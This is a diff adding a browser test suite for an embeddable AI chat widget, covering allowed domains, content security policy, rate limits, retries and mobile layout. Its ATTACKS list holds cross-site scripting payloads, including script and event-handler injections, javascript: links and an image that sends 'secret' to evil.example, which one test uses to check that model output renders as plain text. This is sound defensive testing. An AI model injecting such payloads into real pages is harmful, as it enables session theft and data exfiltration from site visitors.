@@ -1,0 +1,263 @@
+import { expectAccessible } from '../support/axe.js';
+import { describeInBrowser, NARROW, screenshot, useBrowser } from '../support/browser.js';
+import { startTestEdge, type TestEdge } from '../support/edge.js';
+import { usePlatform } from '../support/platform-suite.js';
+import {
+  chat as answerOf,
+  DONE_EVENT,
+  delta,
+  FULL_STREAM,
+  type ScriptedUpstream,
+  startScriptedUpstream,
+  stream,
+} from '../support/scripted-upstream.js';
+import { until } from '../support/until.js';
+import { changeWidget, createTestWidget, type TestWidget } from './edge-support.js';
+import {
+  type CustomerSite,
+  chatIn,
+  clickBubble,
+  hasBubble,
+  startCustomerSite,
+  tagOf,
+  write,
+} from './site.js';
+
+/** What models write, or are told to write, that must stay words. */
+const ATTACKS = [
+  '<script>window.hacked=1</script>',
+  '<img src=x onerror="window.hacked=1">',
+  '<svg onload="window.hacked=1">',
+  '[click](javascript:window.hacked=1)',
+  '[click](JaVaScRiPt:window.hacked=1)',
+  '[click](data:text/html,<script>window.hacked=1</script>)',
+  '![x](http://evil.example/?q=secret)',
+  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
+  '`<b>`**<i>x</i>**',
+  '<a href="//evil.example" onclick="window.hacked=1">x</a>',
+  '"><style>*{display:none}</style>',
+  '[a](https://ok.example/"onmouseover="window.hacked=1)',
+];
+
+describeInBrowser('the widget in a page', () => {
+  const suite = usePlatform();
+  const browser = useBrowser();
+  let upstream: ScriptedUpstream;
+  let edge: TestEdge;
+  let site: CustomerSite;
+  beforeAll(async () => {
+    upstream = await startScriptedUpstream();
+    edge = await startTestEdge(suite.db, { upstreamUrl: upstream.url, platformUrl: suite.url });
+    site = await startCustomerSite();
+  });
+  afterAll(async () => {
+    await edge?.close();
+    await upstream?.close();
+    await site?.close();
+  });
+  beforeEach(() => upstream.answer(stream(FULL_STREAM)));
+
+  const widgetOn = (columns: Record<string, unknown> = {}): Promise<TestWidget> =>
+    createTestWidget(suite.db, { columns: { allowed_domains: ['localhost'], ...columns } });
+  const open = async (body: string, options: Parameters<typeof browser.open>[1] = {}, headers = {}) => {
+    const page = await browser.open(site.url, { others: [edge.url], ...options });
+    await page.goto(site.page('/', body, headers));
+    return page;
+  };
+
+  test('opens at a click, answers, and is there again on the next page', async () => {
+    const { publicKey } = await widgetOn({ greeting_message: 'Hello from the **shop**' });
+    const page = await open(tagOf(edge.url, publicKey));
+    await clickBubble(page);
+    const chat = await chatIn(page);
+    await chat.getByText('Hello from the shop').waitFor();
+    expect(await chat.locator('strong').textContent()).toBe('shop');
+    // Somebody who opened it can write at once.
+    await until(() => chat.evaluate<boolean>('document.activeElement?.id === "box"'), { what: 'the focus' });
+    await write(chat, 'Do you ship?');
+    await chat.locator('.turn.assistant', { hasText: 'Hello.' }).waitFor();
+    await until(async () => (await chat.locator('#spoken').textContent()) === 'Assistant: Hello.', {
+      what: 'the answer to be spoken',
+    });
+    await expectAccessible(chat);
+    await screenshot(page, 'widget');
+    await page.goto(site.page('/next', tagOf(edge.url, publicKey)));
+    const again = await chatIn(page);
+    await again.locator('.turn.user', { hasText: 'Do you ship?' }).waitFor();
+    await write(again, 'And more?');
+    await until(() => upstream.seen.at(-1)!.body.includes('And more?'), { what: 'the second question' });
+    expect((JSON.parse(upstream.seen.at(-1)!.body) as { messages: unknown }).messages).toEqual([
+      { role: 'user', content: 'Do you ship?' },
+      { role: 'assistant', content: 'Hello.' },
+      { role: 'user', content: 'And more?' },
+    ]);
+    await again.locator('.turn.assistant', { hasText: 'Hello.' }).nth(1).waitFor();
+    await again.locator('#box').press('Escape');
+    await until(() => page.evaluate<boolean>('!document.activeElement.matches("iframe")'), {
+      what: 'its end',
+    });
+  });
+
+  test('goes on where history is verified', async () => {
+    const { publicKey } = await widgetOn({ verified_history: true });
+    const page = await open(tagOf(edge.url, publicKey));
+    await clickBubble(page);
+    const chat = await chatIn(page);
+    for (let i = 1; i <= 3; i++) {
+      await write(chat, `Question ${i}`);
+      await chat
+        .locator('.turn.assistant', { hasText: 'Hello.' })
+        .nth(i - 1)
+        .waitFor();
+      await until(async () => (await chat.locator('#send').getAttribute('aria-disabled')) === 'false', {
+        what: 'the end of the answer',
+      });
+    }
+  });
+
+  test('stays away from a site that is not allowed', async () => {
+    const { publicKey } = await widgetOn({ allowed_domains: ['shop.example'] });
+    const page = await open(tagOf(edge.url, publicKey), { expectedErrors: /CORS|ERR_FAILED/ });
+    await page.waitForEvent('console', { predicate: (message) => message.text().startsWith('chat widget:') });
+    expect(await hasBubble(page)).toBe(false);
+    const framed = await open(`<iframe src="${edge.url}/widget/frame/x?key=${publicKey}"></iframe>`, {
+      expectedErrors: /frame-ancestors/,
+    });
+    await until(() => framed.frames().some((frame) => frame.url().startsWith('chrome-error')), {
+      what: 'the refusal to be framed',
+    });
+  });
+
+  test('needs one host in the policy of a strict page, and is one bubble for two tags', async () => {
+    const { publicKey } = await widgetOn();
+    const tag = tagOf(edge.url, publicKey);
+    const policy = `default-src 'none'; script-src ${edge.url}; connect-src ${edge.url}; frame-src ${edge.url}`;
+    const page = await open(tag + tag, {}, { 'content-security-policy': policy });
+    await clickBubble(page);
+    const chat = await chatIn(page);
+    await write(chat, 'Hi');
+    await chat.locator('.turn.assistant', { hasText: 'Hello.' }).waitFor();
+    expect(await page.evaluate('document.querySelectorAll("body > div").length')).toBe(1);
+    expect(page.frames()).toHaveLength(2);
+  });
+
+  test('shows what models write as words', async () => {
+    const { publicKey } = await widgetOn();
+    const page = await open(tagOf(edge.url, publicKey));
+    await clickBubble(page);
+    const chat = await chatIn(page);
+    upstream.answer(stream([...ATTACKS.map((text) => delta(`${text}\n\n`)), delta('END'), DONE_EVENT]));
+    await write(chat, 'Attack');
+    await chat.locator('.turn.assistant', { hasText: 'END' }).waitFor();
+    const found = await chat.evaluate<[string[], string[], unknown]>(`[
+      [...document.querySelectorAll('#log :is(script, img, svg, iframe, style, object)')].map((one) => one.tagName),
+      [...document.querySelectorAll('#log a')].map((one) => new URL(one.href).protocol + one.rel),
+      window.hacked]`);
+    expect(found[0]).toEqual([]);
+    expect(new Set(found[1])).toEqual(
+      new Set(['http:noopener noreferrer nofollow', 'https:noopener noreferrer nofollow']),
+    );
+    expect(found[2]).toBeUndefined();
+    expect(await page.evaluate('window.hacked')).toBeUndefined();
+  });
+
+  test('explains limits, and a key that is gone, in the chat', async () => {
+    const widget = await widgetOn({ rate_limit_per_minute: 1, daily_message_limit: 2 });
+    const page = await open(tagOf(edge.url, widget.publicKey), {
+      expectedErrors: /status of (?:429|404|503)/,
+    });
+    await clickBubble(page);
+    const chat = await chatIn(page);
+    await write(chat, 'One');
+    await chat.locator('.turn.assistant', { hasText: 'Hello.' }).waitFor();
+    await until(async () => (await chat.locator('#send').getAttribute('aria-disabled')) === 'false', {
+      what: 'the end of the answer',
+    });
+    const told = (words: string | RegExp) => chat.getByRole('alert').getByText(words).waitFor();
+    await write(chat, 'Two');
+    await told(/Too many messages at once\. Try again in \d+ seconds?\./);
+    await changeWidget(suite.db, widget, 'rate_limit_per_minute = 100, daily_message_limit = 1');
+    await until(
+      async () => {
+        await write(chat, 'Again');
+        return (
+          (await chat.getByRole('alert').textContent()) ===
+          'This chat has reached its limit for today. Please come back tomorrow.'
+        );
+      },
+      { what: 'the daily limit' },
+    );
+    await changeWidget(suite.db, widget, `public_key = 'wgt_pr_' || substr(md5(random()::text), 1, 24)`);
+    await until(
+      async () => {
+        await write(chat, 'Still?');
+        return (await chat.getByRole('alert').textContent()) === "This chat isn't available any more.";
+      },
+      { what: 'the end of the key' },
+    );
+    await expectAccessible(chat);
+  });
+
+  test('offers another try when an answer breaks off', async () => {
+    const { publicKey } = await widgetOn();
+    const page = await open(tagOf(edge.url, publicKey));
+    await clickBubble(page);
+    const chat = await chatIn(page);
+    upstream.answer((_request, response) => {
+      response.writeHead(200, { 'content-type': 'text/event-stream' });
+      response.write(delta('Half an ans'));
+      setTimeout(() => response.destroy(), 50);
+    });
+    await write(chat, 'Tell me');
+    await chat.getByRole('alert').getByText('Something went wrong').waitFor();
+    upstream.answer(stream(FULL_STREAM));
+    await chat.getByRole('button', { name: 'Try again' }).click();
+    await chat.locator('.turn.assistant', { hasText: 'Hello.' }).waitFor();
+    expect(await chat.locator('.turn.user').count()).toBe(1);
+    await chat.getByRole('button', { name: 'New chat' }).click();
+    expect(await chat.locator('.turn.user').count()).toBe(0);
+  });
+
+  test('fills a phone, and leaves the keyboard alone', async () => {
+    const { publicKey } = await widgetOn();
+    const page = await open(tagOf(edge.url, publicKey, 'data-pr-greeting="Salut"'), { viewport: NARROW });
+    await clickBubble(page);
+    const chat = await chatIn(page);
+    await chat.getByText('Salut').waitFor();
+    expect(await chat.evaluate('[innerWidth, innerHeight]')).toEqual([NARROW.width, NARROW.height]);
+    expect(await chat.evaluate('document.activeElement?.id')).not.toBe('box');
+    await screenshot(page, 'widget-phone');
+    await chat.getByRole('button', { name: 'Close chat' }).click();
+    await until(() => hasBubble(page), { what: 'the bubble' });
+  });
+
+  test('does what the page asks for by its script', async () => {
+    const { publicKey } = await widgetOn();
+    const page = await open(tagOf(edge.url, publicKey));
+    await until(() => hasBubble(page), { what: 'the bubble' });
+    await page.evaluate(
+      `window.heard = []; GatewayChat.on('message', (text) => heard.push(text)); GatewayChat.send('From the page')`,
+    );
+    await until(() => page.evaluate<boolean>('heard.includes("Hello.")'), { what: 'the answer' });
+    const chat = await chatIn(page);
+    await chat.locator('.turn.user', { hasText: 'From the page' }).waitFor();
+    await page.evaluate('GatewayChat.close()');
+    await until(() => hasBubble(page), { what: 'the bubble' });
+  });
+
+  test('is served small, and asked about again soon', async () => {
+    const loader = await fetch(`${edge.url}/widget/v1.js`);
+    expect(loader.headers.get('cache-control')).toBe('public, max-age=300');
+    expect(loader.headers.get('content-type')).toBe('text/javascript; charset=utf-8');
+    const { publicKey } = await widgetOn({ allowed_domains: ['shop.example', '*.blog.example'] });
+    const policyOf = async (key: string) =>
+      /frame-ancestors (.*)$/.exec(
+        (await fetch(`${edge.url}/widget/frame/x?key=${key}`)).headers.get('content-security-policy')!,
+      )![1];
+    expect(await policyOf(publicKey)).toBe(
+      "'self' http://shop.example:* https://shop.example:* http://*.blog.example:* https://*.blog.example:*",
+    );
+    expect(await policyOf('nobody')).toBe("'self'");
+    upstream.answer(answerOf());
+  });
+});
